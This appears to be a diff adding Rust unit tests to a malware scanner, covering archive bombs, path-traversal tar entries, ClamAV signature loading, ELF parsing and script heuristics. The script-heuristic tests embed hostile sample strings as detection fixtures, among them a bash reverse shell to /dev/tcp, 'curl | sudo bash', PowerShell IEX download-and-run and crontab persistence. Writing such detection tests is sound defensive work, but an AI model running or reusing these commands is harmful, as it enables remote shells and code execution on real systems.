@@ -1,5 +1,20 @@
-use crate::scanner::{SignatureDatabase, Signature, PatternType};
-use std::path::PathBuf;
+use crate::config::{AllowlistConfig, ArchiveConfig, DetectionAction, HeuristicsConfig, MailConfig, PdfConfig, ScriptSensitivity, UrlScanConfig};
+use crate::core::security::QuarantineManager;
+use crate::scanner::archive::{ArchiveScanner, ArchiveViolation};
+use crate::scanner::custom::{add_custom_signatures, remove_custom_signature};
+use crate::scanner::cvd::{parse_imphash_line, CVD_HEADER_SIZE};
+use crate::scanner::engine::{expand_glob_paths, ScanPaths};
+use crate::utils::FileKind;
+use crate::scanner::image::apply_layer;
+use crate::scanner::mail::{extract_attachments, parse_message, MailboxReader};
+use crate::scanner::pdf::PdfParser;
+use crate::scanner::pe::{imphash, parse_imports, ImportedFunction};
+use crate::scanner::rootkit::find_hidden_pids;
+use crate::scanner::selftest::run_selftest;
+use crate::scanner::{audit_persistence, eicar_test_string, ExclusionRules, PersistenceKind, ThreatType, AllowReason, Allowlist, RiskLevel, RootkitCheck, RootkitChecker, UrlScanner, VerdictCache, EICAR_SIGNATURE_ID, ScanCheckpoint, ElfFlag, ElfInfo, HeuristicEngine, MemoryBudget, ImageReference, ScanMode, ScanOptions, ScanState, ScanStats, ScannerEngine, SignatureDatabase, Signature, PatternType};
+use std::sync::Arc;
+use std::collections::{HashMap, HashSet};
+use std::path::{Path, PathBuf};
 
 #[cfg(test)]
 mod tests {
@@ -68,4 +83,2202 @@ mod tests {
             assert!(!threat.is_empty());
         }
     }
+
+    #[test]
+    fn test_image_reference_parsing() {
+        let reference = ImageReference::parse("alpine").unwrap();
+        assert_eq!(reference.registry, "registry-1.docker.io");
+        assert_eq!(reference.repository, "library/alpine");
+        assert_eq!(reference.reference, "latest");
+
+        let reference = ImageReference::parse("ghcr.io/org/app:1.2").unwrap();
+        assert_eq!(reference.registry, "ghcr.io");
+        assert_eq!(reference.repository, "org/app");
+        assert_eq!(reference.reference, "1.2");
+
+        let reference = ImageReference::parse("localhost:5000/app@sha256:abcd").unwrap();
+        assert_eq!(reference.registry, "localhost:5000");
+        assert_eq!(reference.repository, "app");
+        assert_eq!(reference.reference, "sha256:abcd");
+    }
+
+    fn write_layer(path: &Path, entries: &[(&str, &[u8])]) {
+        let mut builder = tar::Builder::new(std::fs::File::create(path).unwrap());
+        for (name, data) in entries {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(data.len() as u64);
+            header.set_mode(0o644);
+            // 直接写入原始名称，以便构造包含 ".." 的恶意条目
+            header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+            header.set_cksum();
+            builder.append(&header, *data).unwrap();
+        }
+        builder.finish().unwrap();
+    }
+
+    #[test]
+    fn test_apply_layers_with_whiteouts() {
+        let dir = tempfile::tempdir().unwrap();
+        let rootfs = dir.path().join("rootfs");
+        std::fs::create_dir_all(&rootfs).unwrap();
+
+        let lower = dir.path().join("lower.tar");
+        let upper = dir.path().join("upper.tar");
+        write_layer(&lower, &[
+            ("etc/passwd", b"root"),
+            ("opt/app/old.bin", b"old"),
+            ("tmp/dropper", b"bad"),
+        ]);
+        write_layer(&upper, &[
+            ("opt/app/new.bin", b"new"),
+            ("opt/app/.wh..wh..opq", b""),
+            ("tmp/.wh.dropper", b""),
+            ("../escape", b"x"),
+        ]);
+
+        let mut origins = HashMap::new();
+        apply_layer(&lower, &rootfs, 0, &mut origins, &ArchiveConfig::default()).unwrap();
+        apply_layer(&upper, &rootfs, 1, &mut origins, &ArchiveConfig::default()).unwrap();
+
+        assert!(rootfs.join("etc/passwd").exists());
+        assert!(rootfs.join("opt/app/new.bin").exists());
+        assert!(!rootfs.join("opt/app/old.bin").exists());
+        assert!(!rootfs.join("tmp/dropper").exists());
+        assert!(!dir.path().join("escape").exists());
+        assert_eq!(origins.get(Path::new("etc/passwd")), Some(&0));
+        assert_eq!(origins.get(Path::new("opt/app/new.bin")), Some(&1));
+        assert!(!origins.contains_key(Path::new("tmp/dropper")));
+    }
+
+    #[test]
+    fn test_apply_layer_enforces_unpack_limits() {
+        use std::io::Write;
+
+        let dir = tempfile::tempdir().unwrap();
+        let rootfs = dir.path().join("rootfs");
+        std::fs::create_dir_all(&rootfs).unwrap();
+
+        // 只有几十 KB 的 gzip 层，解压后有 8 MB
+        let tar_path = dir.path().join("bomb.tar");
+        let zeros = vec![0u8; 8 * 1024 * 1024];
+        write_layer(&tar_path, &[("bomb.bin", &zeros)]);
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        gz.write_all(&std::fs::read(&tar_path).unwrap()).unwrap();
+        let layer = dir.path().join("bomb.tar.gz");
+        std::fs::write(&layer, gz.finish().unwrap()).unwrap();
+
+        let small = ArchiveConfig {
+            max_decompressed_size: 1024 * 1024,
+            ..ArchiveConfig::default()
+        };
+        let mut origins = HashMap::new();
+        let error = apply_layer(&layer, &rootfs, 0, &mut origins, &small).unwrap_err();
+        assert!(format!("{:#}", error).contains("超过上限"), "{:#}", error);
+        assert!(std::fs::metadata(rootfs.join("bomb.bin")).map_or(0, |m| m.len()) <= 1024 * 1024);
+        assert!(origins.is_empty());
+
+        let few = ArchiveConfig {
+            max_members: 2,
+            ..ArchiveConfig::default()
+        };
+        let many = dir.path().join("many.tar");
+        write_layer(&many, &[("a", b"1"), ("b", b"2"), ("c", b"3")]);
+        assert!(apply_layer(&many, &rootfs, 0, &mut origins, &few).is_err());
+        assert!(apply_layer(&many, &rootfs, 0, &mut origins, &ArchiveConfig::default()).is_ok());
+    }
+
+    #[test]
+    fn test_parse_mime_attachments() {
+        let raw = b"From: a@example.org\r\n\
+Content-Type: multipart/mixed; boundary=\"XYZ\"\r\n\
+\r\n\
+preamble\r\n\
+--XYZ\r\n\
+Content-Type: text/plain\r\n\
+Content-Transfer-Encoding: quoted-printable\r\n\
+\r\n\
+hello =3D world\r\n\
+--XYZ\r\n\
+Content-Type: application/octet-stream; name=\"a.bin\"\r\n\
+Content-Disposition: attachment;\r\n\tfilename=\"payload.exe\"\r\n\
+Content-Transfer-Encoding: base64\r\n\
+\r\n\
+TVqQAA\r\n\
+==\r\n\
+--XYZ--\r\n";
+
+        let parts = parse_message(raw);
+        assert_eq!(parts.len(), 2);
+        assert_eq!(parts[0].data, b"hello = world");
+        assert!(!parts[0].is_attachment);
+
+        let attachments = extract_attachments(raw);
+        assert_eq!(attachments.len(), 1);
+        assert_eq!(attachments[0].filename.as_deref(), Some("payload.exe"));
+        assert_eq!(attachments[0].data, b"MZ\x90\x00");
+    }
+
+    fn content_hash(data: &[u8]) -> String {
+        use std::collections::hash_map::DefaultHasher;
+        use std::hash::{Hash, Hasher};
+        let mut hasher = DefaultHasher::new();
+        data.hash(&mut hasher);
+        format!("{:x}", hasher.finish())
+    }
+
+    fn custom_scan_options(path: &Path) -> ScanOptions {
+        ScanOptions {
+            scan_mode: ScanMode::Custom,
+            custom_paths: vec![path.to_path_buf()],
+            exclude_paths: vec![],
+            exclude_extensions: vec![],
+            max_file_size: 1024 * 1024,
+            thread_count: 1,
+            walk_threads: 2,
+            quick_scan_paths: vec![],
+            priority_paths: vec![],
+            use_xattr_markers: false,
+            xattr_marker_key_file: None,
+            archive: ArchiveConfig::default(),
+            heuristics: HeuristicsConfig::default(),
+            pdf: PdfConfig::default(),
+            mail: MailConfig::default(),
+            skip_benign_types: true,
+            honor_scanignore: true,
+            memory_limit_mb: 0,
+            max_read_mb_per_s: 0,
+            idle_io_priority: false,
+            max_duration: None,
+            action: DetectionAction::Report,
+            auto_quarantine_min_risk: None,
+            dry_run: false,
+        }
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+    async fn test_parallel_scan_merges_worker_stats() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..200 {
+            let sub = dir.path().join(format!("d{}", i % 7));
+            std::fs::create_dir_all(&sub).unwrap();
+            std::fs::write(sub.join(format!("f{}.bin", i)), format!("clean file {}", i)).unwrap();
+        }
+        let payload = b"parallel-test-payload";
+        std::fs::write(dir.path().join("d3/infected.bin"), payload).unwrap();
+        std::fs::write(dir.path().join("d5/infected-copy.bin"), payload).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![Signature {
+            id: content_hash(payload),
+            name: "Test.Parallel".to_string(),
+            threat_type: "Virus".to_string(),
+            risk_level: "High".to_string(),
+            pattern: payload.to_vec(),
+            pattern_type: PatternType::Hash,
+            target: "0".to_string(),
+            subplatform: None,
+        }])
+        .await
+        .unwrap();
+
+        let engine = ScannerEngine::new(db, ScanOptions {
+            thread_count: 4,
+            ..custom_scan_options(dir.path())
+        });
+
+        let results = engine.start_scan().await.unwrap();
+        let stats = engine.get_stats();
+
+        assert_eq!(stats.get_files_scanned(), 202);
+        assert_eq!(stats.get_threats_found(), 2);
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("d3/infected.bin"));
+        assert!(results[1].file_path.ends_with("d5/infected-copy.bin"));
+    }
+
+    fn nested_archive(payload: &[u8]) -> Vec<u8> {
+        use std::io::Write;
+
+        let mut tar_builder = tar::Builder::new(Vec::new());
+        let mut header = tar::Header::new_gnu();
+        header.set_size(payload.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        tar_builder.append_data(&mut header, "bin/evil", payload).unwrap();
+        let tar_data = tar_builder.into_inner().unwrap();
+
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(&tar_data).unwrap();
+        let tgz = gz.finish().unwrap();
+
+        let mut zip_writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        zip_writer.start_file("readme.txt", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(b"nothing here").unwrap();
+        zip_writer.start_file("payload.tar.gz", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(&tgz).unwrap();
+        zip_writer.finish().unwrap().into_inner()
+    }
+
+    async fn payload_db(payload: &[u8]) -> SignatureDatabase {
+        let db = SignatureDatabase::new();
+        db.update_signatures(vec![Signature {
+            id: content_hash(payload),
+            name: "Test.Archive".to_string(),
+            threat_type: "Trojan".to_string(),
+            risk_level: "High".to_string(),
+            pattern: payload.to_vec(),
+            pattern_type: PatternType::Hash,
+            target: "0".to_string(),
+            subplatform: None,
+        }])
+        .await
+        .unwrap();
+        db
+    }
+
+    #[tokio::test]
+    async fn test_archive_scanner_finds_nested_member() {
+        let payload = b"archive-test-payload";
+        let db = payload_db(payload).await;
+        let archive = nested_archive(payload);
+
+        let config = ArchiveConfig::default();
+        let detections = ArchiveScanner::new(&db, &config).scan("bundle.zip", &archive).await;
+        assert_eq!(detections.len(), 1);
+        assert_eq!(detections[0].member, "payload.tar.gz/payload.tar/bin/evil");
+
+        let shallow = ArchiveConfig {
+            max_depth: 2,
+            ..ArchiveConfig::default()
+        };
+        let mut scanner = ArchiveScanner::new(&db, &shallow);
+        assert!(scanner.scan("bundle.zip", &archive).await.is_empty());
+        assert_eq!(scanner.violation(), Some(ArchiveViolation::Depth));
+    }
+
+    #[tokio::test]
+    async fn test_archive_scanner_stops_at_size_limit() {
+        let payload = vec![b'A'; 64 * 1024];
+        let db = payload_db(&payload).await;
+        let archive = nested_archive(&payload);
+
+        let config = ArchiveConfig {
+            max_decompressed_size: 16 * 1024,
+            ..ArchiveConfig::default()
+        };
+        let mut scanner = ArchiveScanner::new(&db, &config);
+        assert!(scanner.scan("bundle.zip", &archive).await.is_empty());
+        assert!(scanner.is_truncated());
+        assert_eq!(scanner.violation(), Some(ArchiveViolation::DecompressedSize));
+    }
+
+    fn gzip_bomb(size: usize) -> Vec<u8> {
+        use std::io::Write;
+
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        gz.write_all(&vec![0u8; size]).unwrap();
+        gz.finish().unwrap()
+    }
+
+    #[tokio::test]
+    async fn test_archive_scanner_guards_against_bombs() {
+        use std::io::Write;
+
+        let payload = b"archive-test-payload";
+        let db = payload_db(payload).await;
+        let config = ArchiveConfig::default();
+
+        // 高压缩率的成员不展开，其余成员照常扫描
+        let mut zip_writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        zip_writer.start_file("zeros.gz", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(&gzip_bomb(8 * 1024 * 1024)).unwrap();
+        zip_writer.start_file("evil", zip::write::FileOptions::default()).unwrap();
+        zip_writer.write_all(payload).unwrap();
+        let archive = zip_writer.finish().unwrap().into_inner();
+
+        let mut scanner = ArchiveScanner::new(&db, &config);
+        let detections = scanner.scan("bundle.zip", &archive).await;
+        assert_eq!(detections.len(), 1);
+        assert_eq!(detections[0].member, "evil");
+        assert_eq!(scanner.violation(), Some(ArchiveViolation::Ratio));
+        assert!(!scanner.is_truncated());
+
+        // 小文件的高压缩率不算违规
+        let mut scanner = ArchiveScanner::new(&db, &config);
+        scanner.scan("small.gz", &gzip_bomb(64 * 1024)).await;
+        assert_eq!(scanner.violation(), None);
+
+        let mut zip_writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for i in 0..5 {
+            zip_writer.start_file(format!("f{}", i), zip::write::FileOptions::default()).unwrap();
+            zip_writer.write_all(b"data").unwrap();
+        }
+        let archive = zip_writer.finish().unwrap().into_inner();
+        let few_members = ArchiveConfig {
+            max_members: 3,
+            ..ArchiveConfig::default()
+        };
+        let mut scanner = ArchiveScanner::new(&db, &few_members);
+        scanner.scan("many.zip", &archive).await;
+        assert_eq!(scanner.violation(), Some(ArchiveViolation::Members));
+        assert!(scanner.is_truncated());
+    }
+
+    #[tokio::test]
+    async fn test_scan_reports_archive_bomb_as_suspicious() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("zeros.gz"), gzip_bomb(8 * 1024 * 1024)).unwrap();
+        std::fs::write(dir.path().join("clean.gz"), gzip_bomb(1024)).unwrap();
+
+        let engine = ScannerEngine::new(Arc::new(SignatureDatabase::new()), custom_scan_options(dir.path()));
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 1);
+        assert!(results[0].file_path.ends_with("zeros.gz"));
+        assert_eq!(results[0].signature_id, "Heuristic.ArchiveBomb.Ratio");
+        assert_eq!(results[0].risk_level, RiskLevel::Medium);
+    }
+
+    #[tokio::test]
+    async fn test_regex_signature_matches_content() {
+        let db = SignatureDatabase::new();
+        db.update_signatures(vec![
+            Signature {
+                id: "Regex.Downloader".to_string(),
+                name: "Test.Regex.Downloader".to_string(),
+                threat_type: "Trojan".to_string(),
+                risk_level: "High".to_string(),
+                pattern: br"(?i)powershell\s+-enc\s+[A-Za-z0-9+/=]{16,}".to_vec(),
+                pattern_type: PatternType::Regex,
+                target: "0".to_string(),
+                subplatform: None,
+            },
+            Signature {
+                id: "Regex.Invalid".to_string(),
+                name: "Test.Regex.Invalid".to_string(),
+                threat_type: "Trojan".to_string(),
+                risk_level: "High".to_string(),
+                pattern: b"(unclosed".to_vec(),
+                pattern_type: PatternType::Regex,
+                target: "0".to_string(),
+                subplatform: None,
+            },
+        ])
+        .await
+        .unwrap();
+
+        let sample = b"cmd /c PowerShell  -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
+        let threat = db.scan_bytes(sample).await.unwrap();
+        assert_eq!(threat.id, "Regex.Downloader");
+        assert!(db.scan_bytes(b"powershell -enc short").await.is_none());
+
+        // 时间预算耗尽后不再评估正则签名
+        db.set_regex_time_budget(std::time::Duration::ZERO);
+        assert!(db.scan_bytes(sample).await.is_none());
+    }
+
+    fn build_cvd(version: u32, ndb: &str, corrupt_md5: bool) -> Vec<u8> {
+        build_cvd_with(version, &[("daily.ndb", ndb)], corrupt_md5)
+    }
+
+    fn build_cvd_with(version: u32, files: &[(&str, &str)], corrupt_md5: bool) -> Vec<u8> {
+        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
+        for (name, content) in files {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(content.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            builder.append_data(&mut header, name, content.as_bytes()).unwrap();
+        }
+        let body = builder.into_inner().unwrap().finish().unwrap();
+
+        let mut md5 = hex::encode(openssl::hash::hash(openssl::hash::MessageDigest::md5(), &body).unwrap());
+        if corrupt_md5 {
+            md5 = "0".repeat(32);
+        }
+        let mut cvd = format!(
+            "ClamAV-VDB:16 Oct 2026 08-00 +0000:{}:2:90:{}:dsig:tester:1792137600",
+            version, md5
+        )
+        .into_bytes();
+        cvd.resize(CVD_HEADER_SIZE, b' ');
+        cvd.extend_from_slice(&body);
+        cvd
+    }
+
+    #[tokio::test]
+    async fn test_reload_replaces_file_signatures() {
+        let dir = tempfile::tempdir().unwrap();
+        let v1 = "Test.Keep-1:0:*:6b6565702d6d65\nTest.Dropped-1:0:*:64726f707065642d6d65\n";
+        std::fs::write(dir.path().join("daily.cvd"), build_cvd(1, v1, false)).unwrap();
+
+        let db = SignatureDatabase::new();
+        db.load_from_directory(dir.path()).await.unwrap();
+        db.load_builtin_signatures().await.unwrap();
+        db.update_signatures(vec![sig("misp:test", b"misp-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        assert_eq!(db.get_signature_count().await, 4);
+        let before = db.snapshot();
+
+        let v2 = "Test.Keep-1:0:*:6b6565702d6d65\nTest.Added-1:0:*:61646465642d6d65\n";
+        std::fs::write(dir.path().join("daily.cvd"), build_cvd(2, v2, false)).unwrap();
+        assert_eq!(db.reload_from_directory(dir.path()).await.unwrap(), 4);
+        assert_eq!(db.get_version(), "2");
+        assert!(db.scan_bytes(b"dropped-me").await.is_none());
+        assert!(db.scan_bytes(b"added-me").await.is_some());
+        assert!(db.scan_bytes(b"keep-me").await.is_some());
+        assert!(db.scan_bytes(b"misp-payload").await.is_some());
+        assert!(db.scan_bytes(&eicar_test_string()).await.is_some());
+        // 重新加载前取得的快照不受影响
+        assert!(before.scan_bytes(b"dropped-me", FileKind::Text).is_some());
+        assert!(before.scan_bytes(b"added-me", FileKind::Text).is_none());
+
+        // 新文件损坏时保留当前病毒库
+        std::fs::write(dir.path().join("daily.cvd"), build_cvd(3, v1, true)).unwrap();
+        assert!(db.reload_from_directory(dir.path()).await.is_err());
+        assert_eq!(db.get_version(), "2");
+        assert!(db.scan_bytes(b"added-me").await.is_some());
+        assert!(db.reload_from_directory(dir.path().join("missing")).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_load_clamav_cvd() {
+        let ndb = "Win.Trojan.Plain-1:0:*:6576696c2d7061796c6f6164\n\
+                   Unix.Malware.Wild-2:0:*:deadbeef??{2-4}(aa|bb)cafe\n";
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("daily.cvd"), build_cvd(27000, ndb, false)).unwrap();
+
+        let db = SignatureDatabase::new();
+        db.load_from_directory(dir.path()).await.unwrap();
+        assert_eq!(db.get_signature_count().await, 2);
+        assert_eq!(db.get_version(), "27000");
+        assert_eq!(db.get_database_headers()["daily"].builder, "tester");
+
+        let threat = db.scan_bytes(b"xx evil-payload xx").await.unwrap();
+        assert_eq!(threat.id, "Win.Trojan.Plain-1");
+        assert_eq!(threat.threat_type, "Trojan");
+
+        let wild = [&[0xde, 0xad, 0xbe, 0xef, 0x00][..], b"\n\n\n", &[0xbb, 0xca, 0xfe]].concat();
+        assert_eq!(db.scan_bytes(&wild).await.unwrap().id, "Unix.Malware.Wild-2");
+
+        let corrupt = dir.path().join("corrupt.cvd");
+        std::fs::write(&corrupt, build_cvd(1, ndb, true)).unwrap();
+        assert!(db.load_from_cvd(&corrupt).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_hash_signatures_with_size_constraint() {
+        let sample = b"known-bad-sample";
+        let md5 = hex::encode(openssl::hash::hash(openssl::hash::MessageDigest::md5(), sample).unwrap());
+        let sha256 = hex::encode(openssl::sha::sha256(b"other-sample"));
+        let hdb = format!("{}:{}:Win.Trojan.HashMd5-1:73\n{}:999:Win.Trojan.WrongSize-2\n", md5, sample.len(), md5);
+        let hsb = format!("{}:*:Doc.Malware.HashSha256-3\n", sha256);
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("main.cvd");
+        std::fs::write(&path, build_cvd_with(62, &[("main.hdb", &hdb), ("main.hsb", &hsb)], false)).unwrap();
+
+        let db = SignatureDatabase::new();
+        db.load_from_cvd(&path).await.unwrap();
+        assert_eq!(db.get_hash_signature_count().await, 3);
+        assert_eq!(db.get_signature_count().await, 3);
+
+        let threat = db.scan_bytes(sample).await.unwrap();
+        assert_eq!(threat.id, "Win.Trojan.HashMd5-1");
+        assert_eq!(threat.pattern_type, PatternType::Hash);
+        assert_eq!(db.scan_bytes(b"other-sample").await.unwrap().id, "Doc.Malware.HashSha256-3");
+        assert!(db.scan_bytes(b"unrelated").await.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_logical_signatures() {
+        // 子特征码: 0="MZ"(偏移0), 1="dropper"(忽略大小写), 2="loader", 3="benign", 4="evil"
+        let ldb = "Win.Trojan.Logic-1;Engine:51-255,Target:1;0&(1|2)&3=0;0:4d5a;64726f70706572::i;6c6f61646572;62656e69676e\n\
+                   Txt.Malware.Count-2;Engine:51-255,Target:0;0>2;6576696c\n\
+                   Broken.Logic-3;Engine:51-255;0&5;6576696c\n";
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("daily.cvd");
+        std::fs::write(&path, build_cvd_with(7, &[("daily.ldb", ldb)], false)).unwrap();
+
+        let db = SignatureDatabase::new();
+        db.load_from_cvd(&path).await.unwrap();
+        assert_eq!(db.get_signature_count().await, 2);
+
+        let threat = db.scan_bytes(b"MZ....DROPPER payload").await.unwrap();
+        assert_eq!(threat.id, "Win.Trojan.Logic-1");
+        assert_eq!(threat.target, "1");
+        assert!(db.scan_bytes(b"xMZ dropper").await.is_none());
+        assert!(db.scan_bytes(b"MZ dropper benign").await.is_none());
+
+        assert!(db.scan_bytes(b"evil evil").await.is_none());
+        assert_eq!(db.scan_bytes(b"evil evil evil").await.unwrap().id, "Txt.Malware.Count-2");
+    }
+
+    fn minimal_elf(segment_flags: u32, entry: u64, trailer: &[u8]) -> Vec<u8> {
+        let mut elf = vec![0u8; 64];
+        elf[..4].copy_from_slice(b"\x7fELF");
+        elf[4] = 2;
+        elf[5] = 1;
+        elf[6] = 1;
+        elf[0x10..0x12].copy_from_slice(&2u16.to_le_bytes());
+        elf[0x12..0x14].copy_from_slice(&62u16.to_le_bytes());
+        elf[0x18..0x20].copy_from_slice(&entry.to_le_bytes());
+        elf[0x20..0x28].copy_from_slice(&64u64.to_le_bytes());
+        elf[0x36..0x38].copy_from_slice(&56u16.to_le_bytes());
+        elf[0x38..0x3a].copy_from_slice(&1u16.to_le_bytes());
+
+        let mut phdr = vec![0u8; 56];
+        phdr[..4].copy_from_slice(&1u32.to_le_bytes());
+        phdr[4..8].copy_from_slice(&segment_flags.to_le_bytes());
+        phdr[16..24].copy_from_slice(&0x400000u64.to_le_bytes());
+        phdr[32..40].copy_from_slice(&0x1000u64.to_le_bytes());
+        phdr[40..48].copy_from_slice(&0x1000u64.to_le_bytes());
+        elf.extend_from_slice(&phdr);
+        elf.extend_from_slice(trailer);
+        elf
+    }
+
+    #[test]
+    fn test_elf_analysis() {
+        let exe = std::fs::read(std::env::current_exe().unwrap()).unwrap();
+        let info = ElfInfo::parse(&exe).unwrap();
+        assert_eq!(info.class, crate::scanner::elf::ElfClass::Elf64);
+        assert!(info.sections.iter().any(|s| s.name == ".text" && s.is_executable()));
+        assert!(info.entry_offset().is_some());
+        assert!(!info.heuristic_flags(&exe).contains(&ElfFlag::WritableExecutableSegment));
+
+        let packed = minimal_elf(0x7, 0x400100, b"UPX!");
+        let flags = ElfInfo::parse(&packed).unwrap().heuristic_flags(&packed);
+        assert!(flags.contains(&ElfFlag::WritableExecutableSegment));
+        assert!(flags.contains(&ElfFlag::UpxPacked));
+        assert!(flags.contains(&ElfFlag::SectionHeadersStripped));
+        assert!(!flags.contains(&ElfFlag::EntryPointOutsideCode));
+
+        let outside = minimal_elf(0x5, 0x900000, b"");
+        let flags = ElfInfo::parse(&outside).unwrap().heuristic_flags(&outside);
+        assert_eq!(flags, vec![ElfFlag::SectionHeadersStripped, ElfFlag::EntryPointOutsideCode]);
+
+        assert!(ElfInfo::parse(b"\x7fELF\x02\x01").is_err());
+    }
+
+    #[test]
+    fn test_elf_overflowing_offsets_are_malformed() {
+        // 节头表偏移为 u64::MAX 时按损坏处理，只保留程序头信息
+        let mut elf = minimal_elf(0x5, 0x400100, b"");
+        elf[0x28..0x30].copy_from_slice(&u64::MAX.to_le_bytes());
+        elf[0x3a..0x3c].copy_from_slice(&64u16.to_le_bytes());
+        elf[0x3c..0x3e].copy_from_slice(&4u16.to_le_bytes());
+        let info = ElfInfo::parse(&elf).unwrap();
+        assert!(info.sections.is_empty());
+        assert_eq!(info.segments.len(), 1);
+
+        let mut elf = minimal_elf(0x5, 0x400100, b"");
+        elf[0x20..0x28].copy_from_slice(&u64::MAX.to_le_bytes());
+        assert!(ElfInfo::parse(&elf).is_err());
+
+        // 段地址加大小、入口偏移加段偏移溢出
+        let mut elf = minimal_elf(0x5, u64::MAX - 1, b"");
+        elf[80..88].copy_from_slice(&(u64::MAX - 0x10).to_le_bytes());
+        let info = ElfInfo::parse(&elf).unwrap();
+        assert_eq!(info.entry_offset(), Some(0xf));
+        assert!(!info.heuristic_flags(&elf).contains(&ElfFlag::EntryPointOutsideCode));
+        elf[72..80].copy_from_slice(&u64::MAX.to_le_bytes());
+        assert_eq!(ElfInfo::parse(&elf).unwrap().entry_offset(), None);
+    }
+
+    #[test]
+    fn test_heuristic_rules() {
+        let engine = HeuristicEngine::new(&HeuristicsConfig::default());
+
+        let script = b"#!/bin/sh\ncurl -fsSL http://example.invalid/x.sh | sudo bash\n";
+        let verdict = engine.analyze(Path::new("/home/user/install.sh"), FileKind::Script, script).unwrap();
+        assert_eq!(verdict.detection_name(), "Heuristic.download-exec");
+        assert!(verdict.score >= 60);
+
+        let packed = minimal_elf(0x7, 0x400100, b"UPX!");
+        let verdict = engine.analyze(Path::new("/tmp/.x/kworker"), FileKind::Elf, &packed).unwrap();
+        assert_eq!(verdict.score, 95);
+        assert!(verdict.matches.iter().any(|m| m.rule == "temp-executable"));
+
+        assert!(engine.analyze(Path::new("/home/user/invoice.pdf.exe"), FileKind::Unknown, b"").is_none());
+        let strict = HeuristicEngine::new(&HeuristicsConfig { threshold: 40, ..HeuristicsConfig::default() });
+        let verdict = strict.analyze(Path::new("/home/user/invoice.pdf.exe"), FileKind::Unknown, b"").unwrap();
+        assert_eq!(verdict.detection_name(), "Heuristic.double-extension");
+
+        assert!(engine.analyze(Path::new("/home/user/notes.txt"), FileKind::Text, b"curl is a tool").is_none());
+    }
+
+    #[test]
+    fn test_script_heuristics() {
+        let engine = HeuristicEngine::new(&HeuristicsConfig::default());
+        let detect = |engine: &HeuristicEngine, name: &str, data: &[u8]| {
+            engine
+                .analyze_script(Path::new(name), FileKind::Script, data)
+                .map(|v| v.detection_name())
+        };
+
+        let shell = b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
+        assert_eq!(detect(&engine, "/tmp/run", shell).as_deref(), Some("ScriptHeuristic.Shell.reverse-shell"));
+        let cron = b"#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/.x') | crontab -\nhistory -c\n";
+        assert_eq!(detect(&engine, "/tmp/run", cron).as_deref(), Some("ScriptHeuristic.Shell.crontab-install"));
+
+        let python = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+        assert_eq!(detect(&engine, "/tmp/a.py", python).as_deref(), Some("ScriptHeuristic.Python.base64-exec"));
+
+        let encoded = b"powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA==\n";
+        assert_eq!(detect(&engine, "/tmp/a.ps1", encoded).as_deref(), Some("ScriptHeuristic.PowerShell.encoded-command"));
+        let download = b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\n";
+        assert_eq!(detect(&engine, "/tmp/a.ps1", download).as_deref(), Some("ScriptHeuristic.PowerShell.download-exec"));
+
+        // 单独的 schtasks 只在高灵敏度下报告
+        let task = b"schtasks /create /tn update /tr C:\\Users\\Public\\u.exe /sc onlogon\n";
+        assert!(detect(&engine, "/tmp/a.ps1", task).is_none());
+        let high = HeuristicEngine::new(&HeuristicsConfig {
+            script_sensitivity: ScriptSensitivity::High,
+            ..HeuristicsConfig::default()
+        });
+        assert_eq!(detect(&high, "/tmp/a.ps1", task).as_deref(), Some("ScriptHeuristic.PowerShell.persistence"));
+
+        let benign = b"#!/bin/sh\nset -e\ncurl -fsSL -o release.tar.gz https://example.org/release.tar.gz\ntar xzf release.tar.gz\n";
+        assert!(detect(&high, "/tmp/install.sh", benign).is_none());
+        assert!(detect(&engine, "/tmp/notes.txt", shell).is_some());
+        assert!(detect(&engine, "/tmp/notes.txt", b"bash -i >& /dev/tcp/10.0.0.1/4444").is_none());
+    }
+
+    #[tokio::test]
+    async fn test_scan_reports_script_heuristic() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("update.ps1"),
+            b"$c = New-Object Net.WebClient\n$c.DownloadString('http://example.invalid/p') | IEX\n",
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("build.ps1"), b"Write-Host 'building'\n").unwrap();
+
+        let engine = ScannerEngine::new(Arc::new(SignatureDatabase::new()), custom_scan_options(dir.path()));
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 1);
